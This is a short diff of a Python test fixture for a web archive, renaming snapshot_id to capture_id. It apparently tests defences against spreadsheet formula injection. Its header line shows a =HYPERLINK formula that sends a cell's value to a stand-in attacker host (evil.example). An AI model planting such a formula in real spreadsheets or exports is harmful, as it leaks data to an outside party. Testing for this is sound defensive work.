@@ -157,11 +157,11 @@ FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&A1, "关于教育�
 def formula_db(tmp_path):
     archive = Archive(tmp_path / "formulas.db")
     url = "http://jjrd.example/ShowArticle.asp?ArticleID=1"
-    snapshot_id, _ = archive.add_snapshot(url=url, status=200, headers=[], body=b"page")
+    capture_id, _ = archive.add_capture(url=url, status=200, headers=[], body=b"page")
     archive.save_document({"url": url, "published_at": "2020-01-01T10:00:00+08:00", "view_count": -1, "paragraphs": ["=1+1"],
                            "facts": {"meeting": FORMULAS["meeting"], "subject": FORMULAS["subject"]},
                            **{name: value for name, value in FORMULAS.items() if name in ("title", "source", "body_text")}},
-                          snapshot_id=snapshot_id, crawl_id=None)
+                          capture_id=capture_id, crawl_id=None)
     archive.close()
     return str(tmp_path / "formulas.db")
 
